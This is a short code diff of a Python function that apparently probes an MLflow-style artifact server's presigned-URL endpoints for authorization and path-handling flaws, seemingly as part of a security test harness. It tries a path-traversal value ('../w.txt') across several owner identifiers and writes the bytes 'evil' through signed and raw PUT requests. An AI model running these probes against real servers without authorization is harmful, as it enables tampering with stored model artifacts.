@@ -554,14 +554,12 @@ def signed_urls(target: Target) -> None:
         {"run_id": target.run_id},
         {"run_id": run.get("run_id")},
     )
-    paths = ("weights/w.txt", "../w.txt", "w.txt")
-    routes = ("presigned-upload-url", "presigned-download-url")
-    for one, path, route in itertools.product(owners, paths, routes):
-        found = target.ask(f"artifacts/{route}", {**one, "path": path, "expiration": 600})
+    for one, path in itertools.product(owners, ("weights/w.txt", "../w.txt", "w.txt")):
+        signed = {**one, "path": path, "expiration": 600}
+        found = target.ask("artifacts/presigned-upload-url", signed)
         _put(found.get("presigned_url"), found.get("headers"))
-    path = f"/api/2.0/mlflow-artifacts/presigned/{target.folder}/weights/w.txt"
-    target.raw("PUT", path, b"evil")
-    _put(_read(target.raw("GET", path)[1]).get("url"))
+        target.ask("artifacts/presigned-download-url", signed)
+    target.raw("PUT", f"/api/2.0/mlflow-artifacts/presigned/{target.folder}/w.txt", b"evil")
 
 
 def _put(signed: object, headers: Any = None) -> None:
